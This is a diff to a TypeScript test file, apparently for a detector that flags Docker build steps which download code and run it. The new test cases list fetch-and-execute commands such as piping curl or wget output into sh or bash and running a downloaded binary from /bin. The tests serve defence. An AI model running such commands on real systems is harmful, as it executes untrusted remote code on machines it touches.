@@ -28,9 +28,10 @@ function weights({ dockerfile = '', steps = [], tags = [], method = 'build' }: S
       StepId: String(index),
       StepIndex: index,
       Command: command,
-      Processes: ran.map((CommandLine) => ({
+      Processes: ran.map((CommandLine, at) => ({
         FileName: CommandLine.split(' ')[0] ?? '',
         CommandLine,
+        StartTime: at * 1000,
       })),
     }),
   );
@@ -55,6 +56,22 @@ describe('a download that is run', () => {
     [{ steps: [{ command: 'curl https://pastebin.com/raw/abc | sh' }] }, 3],
     [{ steps: [{ command: 'curl -o /tmp/.x/y https://example.org/y && sh /tmp/.x/y' }] }, 3],
     [{ steps: [{ command: 'curl $URL | sh' }] }, 3],
+    [{ steps: [{ command: 'sh', ran: ['sh', `wget -qO- ${far}`, 'sh'] }] }, 3],
+    [
+      { steps: [{ command: 'sh', ran: ['sh', 'wget -qO- http://203.0.113.9', '/bin/bash -s a'] }] },
+      3,
+    ],
+    [{ steps: [{ command: '/i.sh', ran: ['curl -fsSL https://get.example.org/i', 'bash'] }] }, 1],
+    [
+      {
+        steps: [
+          { command: '/i.sh', ran: [`wget -qO /bin/x ${far}`, 'chmod +x /bin/x', '/bin/x -v'] },
+        ],
+      },
+      3,
+    ],
+    [{ steps: [{ command: '/i.sh', ran: ['sh', `wget -qO- ${far}`, 'sed s/a/b/'] }] }, undefined],
+    [{ steps: [{ command: '/i.sh', ran: [`wget -qO x.deb ${far}`, 'ls'] }] }, undefined],
     [{ steps: [{ command: 'curl $URL | sh', ran: ['curl https://get.example.org/i'] }] }, 1],
     [{ steps: [{ command: 'curl $URL | sh', ran: [`curl ${far}`] }] }, 3],
     [
